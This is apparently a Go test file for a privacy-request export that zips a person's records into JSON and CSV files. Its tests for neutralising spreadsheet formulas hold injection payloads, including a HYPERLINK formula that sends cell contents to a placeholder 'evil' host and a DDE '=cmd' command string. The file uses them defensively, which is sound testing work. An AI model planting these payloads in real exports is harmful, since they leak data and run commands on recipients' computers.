package dsr

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"custodia/internal/apperr"
	"custodia/internal/datamap"
)

var packageFiles = []string{"subject.json", "records.csv", "consents.csv", "access_log.csv", "provenance.csv", "systems.csv", "README.txt"}

// openPackage unzips a package: its file names in order and their bodies.
func openPackage(t testing.TB, b []byte) ([]string, map[string][]byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("open zip: %v", err)
	}
	var names []string
	bodies := map[string][]byte{}
	for _, f := range z.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatalf("open %s: %v", f.Name, err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("read %s: %v", f.Name, err)
		}
		names = append(names, f.Name)
		bodies[f.Name] = body
	}
	return names, bodies
}

func readCSV(t testing.TB, name string, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("parse %s: %v\n%s", name, err, b)
	}
	return rows
}

func buildPackage(t testing.TB, d PackageData) ([]string, map[string][]byte) {
	t.Helper()
	b, err := BuildPackage(d)
	if err != nil {
		t.Fatalf("build package: %v", err)
	}
	return openPackage(t, b)
}

var genAt = time.Date(2025, 4, 1, 8, 0, 0, 0, time.UTC)

func samplePackage() PackageData {
	return PackageData{
		Subject:     "sub_ann",
		GeneratedAt: genAt,
		Records: []ExportRecord{
			{Collection: "customers", ID: "rec_1", Data: map[string]any{"name": "Ann", "email": "ann@example.org", "score": 4.5, "vip": true, "balance": -12.0},
				CreatedAt: genAt.Add(-48 * time.Hour), UpdatedAt: genAt.Add(-time.Hour)},
			{Collection: "tickets", ID: "rec_2", Data: map[string]any{"subject": "=HYPERLINK(\"http://evil\")"}, CreatedAt: genAt.Add(-2 * time.Hour), UpdatedAt: genAt.Add(-2 * time.Hour)},
		},
		Consents: map[string]any{
			"current": []any{map[string]any{"purpose": "marketing", "state": "given"}},
			"history": []any{
				map[string]any{"seq": float64(1), "purpose": "marketing", "action": "give", "at": "2025-01-02T03:04:05Z", "method": "checkbox", "channel": "web", "notice_version": "v1", "collected_by": "signup", "request_id": "imp_zalo_2025"},
				map[string]any{"seq": float64(2), "purpose": "marketing", "action": "withdraw", "at": "2025-02-02T03:04:05Z", "method": "@mail", "channel": "email", "notice_version": "+v2", "collected_by": "-agent"},
			},
			"notices": []any{},
		},
		AccessLog: []AccessEntry{{At: genAt.Add(-time.Hour), Actor: "agent_7", Action: "record.read", Purpose: "support", Collection: "customers", Decision: "allow"}},
		Provenance: []ProvenanceEntry{{JobID: "crm-2025-01", Source: "Lan's customers.xlsx", SystemID: "sys_lan", Collection: "customers", RecordID: "rec_1",
			Row: "Sheet1!12", ImportedAt: genAt.Add(-48 * time.Hour), Purpose: "support", LegalBasis: "contract"}},
		Systems: []datamap.Holding{{ID: "sys_crm", Name: "HubSpot", Kind: "crm", Status: "official", Owner: "sales-lead@example.com",
			Holders: []string{"lan@example.com"}, Categories: []string{"user.contact.email", "user.name"}}},
	}
}

func TestBuildPackageFiles(t *testing.T) {
	names, bodies := buildPackage(t, samplePackage())
	if !slices.Equal(names, packageFiles) {
		t.Fatalf("files %v, want %v", names, packageFiles)
	}
	if string(bodies["README.txt"]) != packageReadme("", "") || !strings.HasSuffix(packageReadme("", ""), packageContents) {
		t.Fatalf("README %q", bodies["README.txt"])
	}
	tests := []struct {
		file string
		want [][]string
	}{
		{"records.csv", [][]string{
			{"collection", "record_id", "field", "value"},
			{"customers", "rec_1", "balance", "-12"},
			{"customers", "rec_1", "email", "ann@example.org"},
			{"customers", "rec_1", "name", "Ann"},
			{"customers", "rec_1", "score", "4.5"},
			{"customers", "rec_1", "vip", "true"},
			{"tickets", "rec_2", "subject", "'=HYPERLINK(\"http://evil\")"},
		}},
		{"consents.csv", [][]string{
			{"seq", "purpose", "action", "at", "method", "channel", "notice_version", "collected_by", "request_id"},
			{"1", "marketing", "give", "2025-01-02T03:04:05Z", "checkbox", "web", "v1", "signup", "imp_zalo_2025"},
			{"2", "marketing", "withdraw", "2025-02-02T03:04:05Z", "'@mail", "email", "'+v2", "'-agent", ""},
		}},
		{"access_log.csv", [][]string{
			{"at", "actor", "action", "purpose", "collection", "decision"},
			{"2025-04-01T07:00:00Z", "agent_7", "record.read", "support", "customers", "allow"},
		}},
		{"provenance.csv", [][]string{
			{"job_id", "source", "system_id", "collection", "record_id", "row", "imported_at", "purpose", "legal_basis"},
			{"crm-2025-01", "Lan's customers.xlsx", "sys_lan", "customers", "rec_1", "Sheet1!12", "2025-03-30T08:00:00Z", "support", "contract"},
		}},
		{"systems.csv", [][]string{
			{"system_id", "name", "kind", "status", "categories"},
			{"sys_crm", "HubSpot", "crm", "official", "user.contact.email user.name"},
		}},
	}
	// The package names the systems, not the staff who own or hold them.
	for _, staff := range []string{"sales-lead@example.com", "lan@example.com"} {
		if bytes.Contains(bodies["subject.json"], []byte(staff)) || bytes.Contains(bodies["systems.csv"], []byte(staff)) {
			t.Errorf("the package names %s", staff)
		}
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			if got := readCSV(t, tc.file, bodies[tc.file]); !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("%s:\n got %q\nwant %q", tc.file, got, tc.want)
			}
		})
	}
}

// TestBuildPackageJSONRoundTrip: subject.json holds every value exactly,
// formulas included.
func TestBuildPackageJSONRoundTrip(t *testing.T) {
	want := samplePackage()
	_, bodies := buildPackage(t, want)
	// Everything but the staff of the systems, which the package leaves out.
	want.Systems[0].Owner, want.Systems[0].Holders = "", nil
	var got PackageData
	if err := json.Unmarshal(bodies["subject.json"], &got); err != nil {
		t.Fatalf("subject.json: %v", err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("round trip:\n got %#v\nwant %#v", got, want)
	}
	if v := got.Records[1].Data["subject"]; v != `=HYPERLINK("http://evil")` {
		t.Fatalf("the JSON altered a formula value: %q", v)
	}
}

// TestBuildPackageFormulaInjection: a CSV value starting with = + - @ (or
// tab or carriage return) is prefixed with a quote; subject.json keeps it.
func TestBuildPackageFormulaInjection(t *testing.T) {
	tests := []struct {
		value any
		csv   string
	}{
		{"=1+1", "'=1+1"},
		{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
		{"-2", "-2"},
		{"+84912345678", "+84912345678"},
		{"-2-2", "'-2-2"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{-7.0, "-7"},
		{"plain", "plain"},
		{"", ""},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{" =1", " =1"},
	}
	for _, tc := range tests {
		t.Run(strings.ToValidUTF8(strings.ReplaceAll(strings.ReplaceAll(jsonString(tc.value), "\\", "_"), "/", "_"), "_"), func(t *testing.T) {
			d := PackageData{Subject: "sub_ann", GeneratedAt: genAt, Records: []ExportRecord{{Collection: "c", ID: "rec_1", Data: map[string]any{"f": tc.value}}}}
			if _, isString := tc.value.(string); isString {
				d.Consents = map[string]any{"history": []any{map[string]any{"seq": 1, "method": tc.value, "notice_version": tc.value, "collected_by": tc.value}}}
			}
			_, bodies := buildPackage(t, d)
			rows := readCSV(t, "records.csv", bodies["records.csv"])
			if got := rows[1][3]; got != tc.csv {
				t.Fatalf("records.csv value %q, want %q", got, tc.csv)
			}
			if _, isString := tc.value.(string); isString {
				crow := readCSV(t, "consents.csv", bodies["consents.csv"])[1]
				for _, i := range []int{4, 6, 7} { // method, notice_version, collected_by
					if crow[i] != tc.csv {
						t.Fatalf("consents.csv column %d %q, want %q", i, crow[i], tc.csv)
					}
				}
			}
			var back PackageData
			if err := json.Unmarshal(bodies["subject.json"], &back); err != nil {
				t.Fatal(err)
			}
			if got := back.Records[0].Data["f"]; got != tc.value {
				t.Fatalf("subject.json value %#v, want %#v", got, tc.value)
			}
		})
	}
}

func jsonString(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestBuildPackageEveryCellDefused: the README promises that in the CSV
// files a value starting with = + - or @ is prefixed, so every cell a
// caller can influence must be defused, not only record values.
func TestBuildPackageEveryCellDefused(t *testing.T) {
	const f = "=HYPERLINK(\"http://evil/?\"&A1)"
	d := PackageData{Subject: "sub_ann", GeneratedAt: genAt,
		Records:    []ExportRecord{{Collection: f, ID: f, Data: map[string]any{f: "x"}}},
		Consents:   map[string]any{"history": []any{map[string]any{"seq": 1, "purpose": f, "action": f, "channel": f}}},
		AccessLog:  []AccessEntry{{At: genAt, Actor: f, Action: f, Purpose: f, Collection: f, Decision: f}},
		Provenance: []ProvenanceEntry{{JobID: f, Source: f, SystemID: f, Collection: f, RecordID: f, Row: f, Purpose: f, LegalBasis: f}}}
	_, bodies := buildPackage(t, d)
	for _, name := range []string{"records.csv", "consents.csv", "access_log.csv", "provenance.csv"} {
		for i, row := range readCSV(t, name, bodies[name]) {
			for j, cell := range row {
				if formula(cell) {
					t.Errorf("%s row %d column %d is a live formula: %q", name, i, j, cell)
				}
			}
		}
	}
}

func TestBuildPackageEmpty(t *testing.T) {
	tests := []struct {
		name         string
		d            PackageData
		wantConsents string
	}{
		{"nothing at all", PackageData{Subject: "sub_x", GeneratedAt: genAt}, "null"},
		{"empty slices", PackageData{Subject: "sub_x", GeneratedAt: genAt, Records: []ExportRecord{}, AccessLog: []AccessEntry{}, Systems: []datamap.Holding{}}, "null"},
		{"empty ledger proof", PackageData{Subject: "sub_x", GeneratedAt: genAt, Consents: map[string]any{"current": []any{}, "history": []any{}, "notices": []any{}}},
			`{"current":[],"history":[],"notices":[]}`},
		{"record without data", PackageData{Subject: "sub_x", GeneratedAt: genAt, Records: []ExportRecord{{Collection: "c", ID: "rec_1"}}}, "null"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			names, bodies := buildPackage(t, tc.d)
			if !slices.Equal(names, packageFiles) {
				t.Fatalf("files %v", names)
			}
			var raw map[string]json.RawMessage
			if err := json.Unmarshal(bodies["subject.json"], &raw); err != nil {
				t.Fatal(err)
			}
			for _, k := range []string{"access_log", "systems", "provenance"} {
				if string(raw[k]) != "[]" {
					t.Errorf("%s is %s, want []", k, raw[k])
				}
			}
			var recs []json.RawMessage
			if err := json.Unmarshal(raw["records"], &recs); err != nil || recs == nil {
				t.Errorf("records is %s, want an array", raw["records"])
			}
			var consents bytes.Buffer
			if err := json.Compact(&consents, raw["consents"]); err != nil || consents.String() != tc.wantConsents {
				t.Errorf("consents %s, want %s", raw["consents"], tc.wantConsents)
			}
			for file, header := range map[string]string{
				"records.csv":    "collection,record_id,field,value\n",
				"consents.csv":   "seq,purpose,action,at,method,channel,notice_version,collected_by,request_id\n",
				"access_log.csv": "at,actor,action,purpose,collection,decision\n",
				"provenance.csv": "job_id,source,system_id,collection,record_id,row,imported_at,purpose,legal_basis\n",
				"systems.csv":    "system_id,name,kind,status,categories\n",
			} {
				if string(bodies[file]) != header {
					t.Errorf("%s is %q, want only its header", file, bodies[file])
				}
			}
		})
	}
}

func TestBuildPackageErrors(t *testing.T) {
	tests := []struct {
		name string
		d    PackageData
	}{
		{"consents not an object", PackageData{Consents: "nope"}},
		{"consent history not a list", PackageData{Consents: map[string]any{"history": "nope"}}},
		{"value JSON cannot encode", PackageData{Records: []ExportRecord{{Data: map[string]any{"f": make(chan int)}}}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			b, err := BuildPackage(tc.d)
			if err == nil || b != nil {
				t.Fatalf("got %d bytes, err %v; want an error", len(b), err)
			}
			wantCode(t, err, apperr.Internal, "internal")
		})
	}
}

type fakeExporter struct {
	d     PackageData
	asked []string
}

func (f *fakeExporter) ExportSubject(_ context.Context, subjectID string) (PackageData, error) {
	f.asked = append(f.asked, subjectID)
	return f.d, nil
}

func TestServicePackage(t *testing.T) {
	tests := []struct {
		name    string
		typ     string
		execute bool
		reject  bool
		kind    apperr.Kind
		code    string
	}{
		{"access, executed", TypeAccess, true, false, 0, ""},
		{"portability, executed", TypePortability, true, false, 0, ""},
		{"access, not executed", TypeAccess, false, false, apperr.Conflict, "not_executed"},
		{"erasure has no package", TypeErasure, true, false, apperr.Conflict, "no_package"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(false)
			r := h.inProgress(t, tc.typ)
			if tc.execute {
				execute(t, h, r.ID, ExecuteInput{})
			}
			if tc.reject {
				h.move(t, r.ID, StateRejected)
			}
			h.now = t0.Add(day)
			ex := &fakeExporter{d: samplePackage()}
			b, err := h.svc.Package(context.Background(), r.ID, ex)
			if tc.code != "" {
				wantCode(t, err, tc.kind, tc.code)
				if len(ex.asked) != 0 {
					t.Fatal("the subject's data was gathered for a refused package")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			_, bodies := openPackage(t, b.Zip)
			want := []CollectionField{{"customers", "balance"}, {"customers", "email"}, {"customers", "name"}, {"customers", "score"}, {"customers", "vip"}, {"tickets", "subject"}}
			if !slices.Equal(b.Fields, want) {
				t.Errorf("package fields %v, want %v", b.Fields, want)
			}
			var got PackageData
			if err := json.Unmarshal(bodies["subject.json"], &got); err != nil {
				t.Fatal(err)
			}
			if !got.GeneratedAt.Equal(t0.Add(day)) || !slices.Equal(ex.asked, []string{"sub_ann"}) {
				t.Fatalf("generated %v for %v", got.GeneratedAt, ex.asked)
			}
		})
	}
	t.Run("unknown request", func(t *testing.T) {
		h := newHarness(false)
		_, err := h.svc.Package(context.Background(), "req_missing", &fakeExporter{})
		wantCode(t, err, apperr.NotFound, "request_not_found")
	})
}

// formula reports whether a CSV cell would be run by a spreadsheet.
func formula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) && !plainSignedNumber.MatchString(cell)
}

// plainSignedNumber is a signed decimal, which names nothing a spreadsheet
// could run: left as it is.
var plainSignedNumber = regexp.MustCompile(`^[+-][0-9]+(\.[0-9]+)?$`)

// FuzzBuildPackage builds a package from arbitrary names and values: the zip
// opens with its five files, subject.json keeps valid UTF-8 values exactly,
// every CSV parses, and no CSV cell starts with = + - @ but a plain signed
// number.
func FuzzBuildPackage(f *testing.F) {
	// The seed corpus is testdata/fuzz/FuzzBuildPackage.
	f.Fuzz(func(t *testing.T, collection, recordID, field, value, actor, purpose, channel, method string) {
		d := PackageData{
			Subject:     "sub_fuzz",
			GeneratedAt: genAt,
			Records: []ExportRecord{
				{Collection: collection, ID: recordID, Data: map[string]any{field: value, "n": -1.5}},
				{Collection: "fixed", ID: "rec_2", Data: map[string]any{value: field}},
			},
			Consents: map[string]any{"history": []any{map[string]any{
				"seq": 1, "purpose": purpose, "action": value, "at": "2025-01-02T03:04:05Z",
				"method": method, "channel": channel, "notice_version": value, "collected_by": actor,
			}}},
			AccessLog: []AccessEntry{{At: genAt, Actor: actor, Action: value, Purpose: purpose, Collection: collection, Decision: value}},
		}
		b, err := BuildPackage(d)
		if err != nil {
			t.Fatalf("build: %v", err)
		}
		names, bodies := openPackage(t, b)
		if !slices.Equal(names, packageFiles) {
			t.Fatalf("files %v", names)
		}
		var back PackageData
		if err := json.Unmarshal(bodies["subject.json"], &back); err != nil {
			t.Fatalf("subject.json: %v", err)
		}
		if utf8.ValidString(field) && utf8.ValidString(value) && field != "n" {
			if got := back.Records[0].Data[field]; got != value {
				t.Fatalf("subject.json holds %q for %q, want %q", got, field, value)
			}
		}
		for _, name := range []string{"records.csv", "consents.csv", "access_log.csv"} {
			for i, row := range readCSV(t, name, bodies[name]) {
				for j, cell := range row {
					if !formula(cell) {
						continue
					}
					t.Fatalf("%s row %d column %d is a live formula: %q", name, i, j, cell)
				}
			}
		}
		want := 1 + 3 // header, field and n, the fixed record
		if field == "n" {
			want--
		}
		if recs := readCSV(t, "records.csv", bodies["records.csv"]); len(recs) != want {
			t.Fatalf("records.csv has %d rows, want %d", len(recs), want)
		}
	})
}

// TestBuildPackageKeepsInput: BuildPackage does not change its input.
func TestBuildPackageKeepsInput(t *testing.T) {
	d := samplePackage()
	before := jsonString(d)
	if _, err := BuildPackage(d); err != nil {
		t.Fatal(err)
	}
	if after := jsonString(d); after != before {
		t.Fatalf("BuildPackage changed its input")
	}
}

// TestPackageReadmeCitesTheRequestsLaw: the README names the right of the
// request's own jurisdiction, not the GDPR's for every request.
func TestPackageReadmeCitesTheRequestsLaw(t *testing.T) {
	for _, c := range []struct{ jurisdiction, typ, want, not string }{
		{"GDPR", TypeAccess, "GDPR Art. 15", "Art. 20"},
		{"GDPR", TypePortability, "GDPR Art. 20", "Art. 15"},
		{"DPDP", TypeAccess, "s. 11", "GDPR"},
		{"VN", TypeAccess, "Law 91/2025/QH15", "GDPR"},
		{"CCPA", TypePortability, "1798.110", "GDPR"},
		{"LGPD", TypePortability, "Art. 18, V", "GDPR"},
		{"ACME", TypeAccess, "under ACME.", "GDPR"},
	} {
		got := packageReadme(c.jurisdiction, c.typ)
		if !strings.Contains(got, c.want) || strings.Contains(got, c.not) {
			t.Errorf("%s %s: %q", c.jurisdiction, c.typ, got[:strings.Index(got, "\n\n")])
		}
	}
}
